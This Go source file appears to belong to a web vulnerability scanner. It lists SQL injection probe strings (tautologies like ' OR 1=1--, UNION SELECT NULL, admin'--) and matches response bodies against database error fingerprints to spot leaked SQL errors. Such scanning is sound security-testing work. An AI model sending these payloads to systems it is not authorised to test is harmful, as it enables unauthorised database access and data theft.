package payloads

import "strings"

// SQLiURLProbe is the single-character probe used against URL parameters.
const SQLiURLProbe = `'`

// GetSQLiPayloads returns the SQL injection probe corpus in probing order.
func GetSQLiPayloads() []string {
	return []string{
		`' OR '1'='1`,
		`' OR 1=1--`,
		`" OR "1"="1`,
		`" OR 1=1--`,
		`' OR '1'='1' /*`,
		`') OR ('1'='1`,
		`1' ORDER BY 1--`,
		`1' UNION SELECT NULL--`,
		`' UNION SELECT NULL,NULL--`,
		`' UNION ALL SELECT NULL--`,
		`admin'--`,
		`' OR 1=1#`,
	}
}

// sqlErrorFingerprints are the database error substrings that, when present
// in a response body, are treated as evidence of a database error leaking to
// the client. Matching is case-insensitive.
var sqlErrorFingerprints = []string{
	"mysql_fetch_array",
	"ORA-",
	"Microsoft OLE DB Provider",
	"PostgreSQL query failed",
	"Warning: mysql_",
	"SQL syntax",
	"mysql_error",
	"valid MySQL result",
	"MySqlClient",
	"syntax error",
}

// MatchSQLError returns the first database error fingerprint found in the
// body, or empty when none matches.
func MatchSQLError(body string) string {
	lowered := strings.ToLower(body)
	for _, fingerprint := range sqlErrorFingerprints {
		if strings.Contains(lowered, strings.ToLower(fingerprint)) {
			return fingerprint
		}
	}
	return ""
}

// ContainsSQLError reports whether the body matches any database error
// fingerprint.
func ContainsSQLError(body string) bool {
	return MatchSQLError(body) != ""
}
